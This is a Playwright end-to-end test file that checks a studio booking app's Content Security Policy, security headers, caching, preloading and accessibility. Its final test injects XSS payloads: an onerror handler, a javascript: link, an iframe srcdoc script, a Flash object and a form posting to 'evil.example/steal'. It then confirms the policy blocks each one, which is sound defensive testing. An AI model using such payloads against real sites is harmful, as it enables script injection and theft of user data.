import type { Page } from '@playwright/test';
import { expect, test } from '#tests/e2e/support/fixtures';
import { expectNoAxeViolations } from '#tests/e2e/support/axe';
import { logIn } from '#tests/e2e/support/session';
import { cspViolations, expectNoCspViolations, watchCspViolations } from './support/csp';

// The live build, served with the headers docs/deployment.md asks a host to send (decision 032).
// The app's own screens break no rule; markup that a failing sanitiser would let through cannot
// run script, submit elsewhere or embed plugins.

test.beforeEach(async ({ page }) => {
  await watchCspViolations(page);
});

const PAGES: [string, (page: Page) => Promise<void>][] = [
  ['/', (page) => expect(page.getByRole('heading', { level: 1, name: 'Lumen Estudio' })).toBeVisible()],
  ['/calendario', (page) => expect(page.getByRole('heading', { level: 1, name: 'Horarios' })).toBeVisible()],
];

test('every answer carries the policy, the hardening headers and the right caching', async ({ page }) => {
  const index = await page.request.get('/');
  const headers = index.headers();
  const csp = headers['content-security-policy'] ?? '';
  for (const rule of [
    /script-src 'strict-dynamic' 'sha256-[^']+'/,
    /object-src 'none'/,
    /base-uri 'self'/,
    /form-action 'self'/,
    /frame-ancestors 'self'/,
    /connect-src [^;]*http:\/\/127\.0\.0\.1:\d+/,
  ])
    expect(csp).toMatch(rule);
  expect(csp).not.toContain("'unsafe-inline' 'self'; img");
  expect(headers['x-content-type-options']).toBe('nosniff');
  expect(headers['referrer-policy']).toBe('strict-origin-when-cross-origin');
  expect(headers['strict-transport-security']).toContain('max-age=');
  expect(headers['permissions-policy']).toContain('camera=()');
  expect(headers['cache-control']).toBe('no-cache');
  const html = await index.text();
  expect(html, 'index.html names no script file: its inline loader inserts them').not.toMatch(
    /<script[^>]*\ssrc=/,
  );
  const entry = /"(\/assets\/index-[^"]+\.js)"/.exec(html);
  expect(entry, 'the loader names the entry').not.toBeNull();
  const asset = await page.request.get(entry![1]!);
  expect(asset.headers()['cache-control']).toBe('public, max-age=31536000, immutable');
});

for (const [path, ready] of PAGES) {
  test(`${path} runs under the policy without a violation`, async ({ page }) => {
    await page.goto(path);
    await ready(page);
    await expectNoAxeViolations(page);
    await expectNoCspViolations(page);
  });
}

test('the page a visitor lands on fetches its own screen code with the entry (decision 040)', async ({
  page,
}) => {
  const screenRequests: string[] = [];
  page.on('request', (request) => {
    if (/\/assets\/(landing|calendar|calendar-page)-[^/]+\.js$/.test(request.url()))
      screenRequests.push(new URL(request.url()).pathname);
  });
  await page.goto('/calendario');
  await expect(page.getByRole('heading', { level: 1, name: 'Horarios' })).toBeVisible();
  const preloaded = await page.evaluate(() =>
    [...document.querySelectorAll<HTMLLinkElement>('link[rel="modulepreload"]')].map(
      (link) => new URL(link.href).pathname,
    ),
  );
  expect(preloaded.filter((path) => /\/assets\/calendar-page-/.test(path))).toHaveLength(1);
  // Each file once: the router's own import finds the preloaded module.
  expect(screenRequests.length).toBe(new Set(screenRequests).size);
  await expectNoCspViolations(page);
});

test('the first paint needs no script file, and what start-up reads is requested with the HTML, once', async ({
  page,
}) => {
  const html = await (await page.request.get('/')).text();
  // The start-up screen is in index.html itself, shown by its inline loader before any script
  // file has arrived (hidden until then, so no frame shows it where a kept page replaces it).
  expect(html).toMatch(/<div id="root" hidden><div class="boot-loading" role="status"[^>]*>.*Cargando…/);
  for (const read of ['appconfig', 'pages'])
    expect(html).toMatch(
      new RegExp(`<link rel="preload" as="fetch" crossorigin="anonymous" href="[^"]*/api/${read}">`),
    );
  const reads: string[] = [];
  page.on('request', (request) => {
    const path = new URL(request.url()).pathname;
    if (path === '/api/appconfig' || path === '/api/pages') reads.push(path);
  });
  await page.goto('/');
  await expect(page.getByRole('heading', { level: 1, name: 'Lumen Estudio' })).toBeVisible();
  await expect(page.getByRole('status').filter({ hasText: 'Cargando…' })).toHaveCount(0);
  // The app's own requests find the preloaded answers.
  expect(reads.sort()).toEqual(['/api/appconfig', '/api/pages']);
});

test('a signed-in page runs under the policy without a violation', async ({ page }) => {
  await logIn(page, 'ana@demo.mx');
  await expect(page.getByRole('heading', { level: 1, name: 'Calendario' })).toBeVisible();
  await expectNoAxeViolations(page);
  await expectNoCspViolations(page);
});

test("the studio's tracking codes still run: inline snippets and the scripts they load", async ({ page }) => {
  // The studio configures a gtag-like snippet; the provider's script is served by the test (offline).
  await page.route('**/api/appconfig', async (route) => {
    const answer = await route.fetch();
    const body = (await answer.json()) as { config: { key: string; value: string }[] };
    body.config.push({
      key: 'head_tracking_codes',
      value:
        '<script async src="https://www.googletagmanager.com/gtag/js?id=G-TEST"></script>' +
        "<script>window.dataLayer = window.dataLayer || []; window.dataLayer.push('inline ran');</script>",
    });
    await route.fulfill({ response: answer, json: body });
  });
  await page.route('https://www.googletagmanager.com/**', (route) =>
    route.fulfill({ contentType: 'text/javascript', body: "window.dataLayer.push('provider ran');" }),
  );
  await page.goto('/');
  await expect
    .poll(() => page.evaluate(() => (window as unknown as { dataLayer?: string[] }).dataLayer ?? []))
    .toEqual(expect.arrayContaining(['inline ran', 'provider ran']));
  await expectNoCspViolations(page);
});

test('markup a failing sanitiser let through runs no script, posts nowhere, embeds nothing', async ({
  page,
}) => {
  await page.goto('/calendario');
  await expect(page.getByRole('heading', { level: 1, name: 'Horarios' })).toBeVisible();
  const pwned = () => page.evaluate(() => (window as unknown as { __pwned?: string }).__pwned ?? null);
  // What a content page, an announcement or a coach bio would render if DOMPurify missed it.
  await page.evaluate(() =>
    document.body.insertAdjacentHTML(
      'beforeend',
      `<div id="injected">
        <img src="/no-such-image.png" onerror="window.__pwned = 'onerror'" alt="">
        <a id="js-link" href="javascript:window.__pwned = 'javascript: URL'">Ver más</a>
        <iframe title="x" srcdoc="<script>parent.__pwned = 'srcdoc'</script>"></iframe>
        <object data="/no-such.swf" type="application/x-shockwave-flash"></object>
        <form id="steal" action="https://evil.example/steal" method="post"><input name="t" value="1"></form>
      </div>`,
    ),
  );
  await page.locator('#js-link').click();
  await page.evaluate(() => (document.getElementById('steal') as HTMLFormElement).requestSubmit());
  await expect
    .poll(async () => new Set((await cspViolations(page)).map((v) => v.directive)))
    .toEqual(new Set(['script-src-attr', 'script-src-elem', 'object-src', 'form-action']));
  expect(await pwned()).toBeNull();
  // Still the same page: neither the javascript: link nor the form took the customer away.
  // (The refused navigations stay "pending" for Playwright's locators: ask the page itself.)
  expect(await page.evaluate(() => [location.pathname, document.querySelector('h1')?.textContent])).toEqual([
    '/calendario',
    'Horarios',
  ]);
  const blocked = await cspViolations(page);
  console.log(
    `CSP smoke: 5 injected payloads, none ran; ${blocked.length} violations reported (${blocked.map((v) => v.directive).join(', ')})`,
  );
});
